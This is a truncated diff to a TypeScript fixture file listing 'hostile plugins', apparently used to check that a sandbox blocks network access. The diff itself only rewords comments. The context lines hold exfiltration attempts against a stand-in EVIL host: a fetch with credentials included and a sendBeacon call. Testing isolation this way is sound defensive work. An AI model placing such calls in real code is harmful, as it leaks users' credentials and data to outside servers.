@@ -1,10 +1,10 @@
-// Plugins that would send something out, or load something in.
+// Plugins that try to send or load data.
 import type { HostilePlugin } from './hostile-plugin.js'
 
 export const NETWORK: readonly HostilePlugin[] = [
   {
     name: 'requests',
-    tries: 'asks a foreign server by everything that a worker can ask with',
+    tries: 'sends requests to a foreign server in every way available to a worker',
     attack: `
       await tried('fetch', () => fetch(EVIL + '/fetch', { mode: 'no-cors', credentials: 'include' }))
       await tried('beacon', () => navigator.sendBeacon(EVIL + '/beacon', 'x'))
